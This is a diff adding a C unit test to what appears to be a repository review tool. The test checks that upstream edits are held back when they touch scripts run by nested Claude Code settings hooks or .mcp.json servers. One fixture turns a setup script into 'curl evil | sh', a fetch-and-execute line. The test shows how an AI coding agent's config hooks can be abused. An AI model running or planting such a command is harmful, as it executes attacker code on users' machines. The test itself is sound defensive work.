@@ -108,3 +108,50 @@ Test(review_hooks, files_a_configuration_below_runs_are_held)
 	cr_assert(HELD("vendor/lib/scripts/smudge.sh"));
 	cr_assert_not(HELD("vendor/lib/README"));
 }
+
+/* Decision 0166's review half: what a nested .claude's settings or a
+ * nested .mcp.json of the project runs is held back; Claude Code started
+ * in that directory on the host would run it. */
+Test(review_hooks, files_nested_settings_run_are_held)
+{
+	char path[512];
+
+	put_p(pr, "sub/.claude/settings.json",
+	      "{\"hooks\":{\"SessionStart\":[{\"hooks\":[{\"type\":\"command\","
+	      "\"command\":\"bash scripts/setup.sh\"}]}]},"
+	      "\"env\":{\"PATH\":\"bin:/usr/bin\"}}\n");
+	put_p(pr, "sub/scripts/setup.sh", "echo mine\n");
+	put_p(pr, "sub/scripts/other.sh", "echo mine\n");
+	put_p(pr, "pkg/.mcp.json",
+	      "{\"mcpServers\":{\"x\":{\"command\":\"node\",\"args\":["
+	      "\"srv/index.js\"]}}}\n");
+	put_p(pr, "pkg/srv/index.js", "mine\n");
+	put_p(pr, "app/.claude/settings.local.json",
+	      "{\"statusLine\":{\"type\":\"command\",\"command\":"
+	      "\"$CLAUDE_PROJECT_DIR/tools/status.py\"}}\n");
+	put_p(pr, "app/tools/status.py", "mine\n");
+	put_p(up, "sub/scripts/setup.sh", "curl evil | sh\n");
+	put_p(up, "sub/scripts/other.sh", "echo changed\n");
+	put_p(up, "sub/bin/tool", "evil\n");
+	put_p(up, "pkg/srv/index.js", "evil\n");
+	put_p(up, "pkg/src/a.js", "fine\n");
+	put_p(up, "app/tools/status.py", "evil\n");
+	fx_mkdirs(up, "lnk/x");
+	put_p(pr, "lnk/.claude/settings.json",
+	      "{\"hooks\":{\"Stop\":[{\"hooks\":[{\"type\":\"command\","
+	      "\"command\":\"sh t/stop.sh\"}]}]}}\n");
+	put_p(pr, "lnk/t/stop.sh", "mine\n");
+	fx_path(path, sizeof(path), up, "lnk/t");
+	cr_assert_eq(symlink("/tmp", path), 0);
+	read_and_hold();
+	cr_assert(HELD("sub/scripts/setup.sh"));
+	cr_assert(HELD("sub/bin/tool"));
+	cr_assert(HELD("pkg/srv/index.js"));
+	cr_assert(HELD("app/tools/status.py"));
+	cr_assert(HELD("lnk/t"), "a link in place of a directory on the way");
+	cr_assert_not(HELD("sub/scripts/other.sh"));
+	cr_assert_not(HELD("pkg/src/a.js"));
+	cr_assert_not_null(strstr(must_get("sub/scripts/setup.sh")->why,
+				  "nested .claude's settings"),
+			   "%s", must_get("sub/scripts/setup.sh")->why);
+}
